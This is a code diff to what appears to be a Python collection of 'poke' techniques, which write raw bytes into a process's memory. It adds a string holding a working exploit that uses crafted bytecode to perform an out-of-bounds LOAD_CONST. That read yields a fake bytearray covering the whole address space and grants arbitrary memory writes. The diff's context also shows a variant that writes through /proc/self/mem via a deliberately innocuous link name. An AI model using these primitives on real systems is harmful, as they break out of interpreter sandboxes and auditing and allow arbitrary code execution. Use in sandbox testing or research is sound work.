@@ -1574,6 +1574,41 @@ def poke(address, data):
         cell.bytes[i] = byte
 """
 
+# Bytecode of the patch's own making: a LOAD_CONST past the constants reads a pointer
+# to a fake bytearray spanning the address space (CPython does not verify bytecode).
+POKE_BYTECODE = r"""
+def poke(address, data):
+    import dis, struct
+
+    fake = struct.pack("<qqqqqqq", 1 << 30, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+    consts = (None,)
+    kept = []
+    for _ in range(10000):  # a pointer placed above the constants
+        pointer = struct.pack("<Q", id(fake) + bytes.__basicsize__ - 1)
+        offset = id(pointer) + bytes.__basicsize__ - 1 - id(consts) - tuple.__basicsize__
+        if offset > 0 and offset % 8 == 0:
+            break
+        kept.append(pointer)
+    else:
+        raise LookupError("no layout for the fake object")
+    index = offset // 8
+    digits = []
+    while True:
+        digits.insert(0, index & 0xFF)
+        index >>= 8
+        if not index:
+            break
+    ops = [dis.opmap["RESUME"], 0]
+    for digit in digits[:-1]:
+        ops += [dis.opmap["EXTENDED_ARG"], digit]
+    ops += [dis.opmap["LOAD_CONST"], digits[-1], dis.opmap["RETURN_VALUE"], 0]
+    code = (lambda: None).__code__.replace(co_code=bytes(ops), co_consts=consts)
+    memory = eval(code)
+    kept.append((fake, pointer))
+    for i, byte in enumerate(data):
+        memory[address + i] = byte
+"""
+
 # The process's own /proc/self/mem, through a link whose name says nothing of it.
 POKE_PROC_SELF = r"""
 def poke(address, data):
